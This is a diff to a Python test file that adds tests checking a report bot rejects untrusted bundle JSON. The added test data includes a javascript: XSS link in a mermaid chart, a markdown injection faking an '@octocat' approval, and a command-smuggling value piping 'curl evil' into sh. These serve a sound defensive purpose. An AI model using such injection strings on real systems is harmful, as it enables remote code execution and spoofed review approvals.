@@ -3,7 +3,7 @@ from pathlib import Path
 
 import pytest
 
-from bot.charts import Chart
+from bot.report.model import Chart
 from bot.diff import compare_metrics, compare_params, overall_verdict, summarize
 from bot.errors import BadInput
 from bot.report.model import Report, RevisionInfo, from_json, to_json
@@ -131,6 +131,22 @@ def test_size_budget_never_fails_even_when_tiny():
     assert "the artifact" in fitted
 
 
+def test_mermaid_from_a_bundle_is_dropped_unless_it_is_what_mrbot_writes():
+    data = to_json(sample_report())
+    data["plots"][0]["mermaid"] = 'xychart-beta\n    title "t"\n    x-axis [0, 1]\n    line [1, 2.5e-3]'
+    assert from_json(data, "r.json").charts[0].mermaid == data["plots"][0]["mermaid"]
+    data["plots"][0]["mermaid"] = "graph TD\n    A-->B\n    click A href \"javascript:alert(1)\""
+    assert from_json(data, "r.json").charts[0].mermaid == ""
+
+
+def test_deeply_nested_bundle_json_is_bad_input(tmp_path):
+    from bot.report.bundle import read_bundle
+
+    (tmp_path / "report.json").write_text("[" * 100_000 + "]" * 100_000)
+    with pytest.raises(BadInput, match="not valid JSON"):
+        read_bundle(tmp_path)
+
+
 def test_report_json_round_trip_and_nan(tmp_path):
     report = sample_report()
     report.metrics[0] = type(report.metrics[0])(**{**report.metrics[0].__dict__, "new": math.nan})
@@ -148,6 +164,9 @@ def test_report_json_round_trip_and_nan(tmp_path):
         (lambda d: d["head"].update(sha="not-a-sha"), "head.sha"),
         (lambda d: d["metrics"][0].update(verdict="<b>"), "unknown value"),
         (lambda d: d.pop("metrics"), "metrics"),
+        (lambda d: d.update(id="default head=bbbbbbb -->\n## Approved by @octocat <!--"), "id must be"),
+        (lambda d: d.update(verdict='improved"; curl evil|sh; echo "'), "unknown value"),
+        (lambda d: d["plots"].append("not a plot"), "invalid mrbot report"),
     ],
 )
 def test_untrusted_report_json_is_validated(mutate, message):
